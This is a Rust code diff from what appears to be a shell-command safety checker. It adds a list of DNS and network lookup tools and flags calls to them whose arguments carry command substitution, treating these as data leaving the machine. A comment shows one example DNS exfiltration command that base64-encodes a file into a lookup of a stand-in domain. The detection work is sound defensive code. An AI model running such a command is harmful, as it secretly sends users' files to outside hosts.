@@ -125,8 +125,21 @@ const WGET_VALUED: &[&str] = &[
     "--method",
 ];
 
+/// Tools that send their arguments to another machine (a name to resolve, a host to reach):
+/// a command's output put into one leaves the machine (`dig $(cat f | base64).example.com`).
+const LOOKUPS: &[&str] = &[
+    "dig",
+    "nslookup",
+    "host",
+    "drill",
+    "ping",
+    "ping6",
+    "traceroute",
+    "whois",
+];
+
 pub(super) fn handles(name: &str) -> bool {
-    NAMES.contains(&name)
+    NAMES.contains(&name) || LOOKUPS.contains(&name)
 }
 
 pub(super) fn is_downloader(name: &str) -> bool {
@@ -134,7 +147,20 @@ pub(super) fn is_downloader(name: &str) -> bool {
 }
 
 pub(super) fn run(run: &mut Run, at: usize, name: &str) {
+    let substituted = run
+        .fields
+        .iter()
+        .skip(at + 1)
+        .find(|f| f.text.contains("$(") || f.text.contains('`') || f.text.contains("<("));
+    if let Some(field) = substituted {
+        let (shown, word) = (run.shown(at), field.text.clone());
+        upload(
+            run,
+            format!("`{shown}` sends the output of a command (`{word}`) to another machine."),
+        );
+    }
     match name {
+        n if LOOKUPS.contains(&n) => {}
         "curl" => curl(run, at),
         "wget" => wget(run, at),
         "scp" | "rsync" => remote::copy(run, at, name),
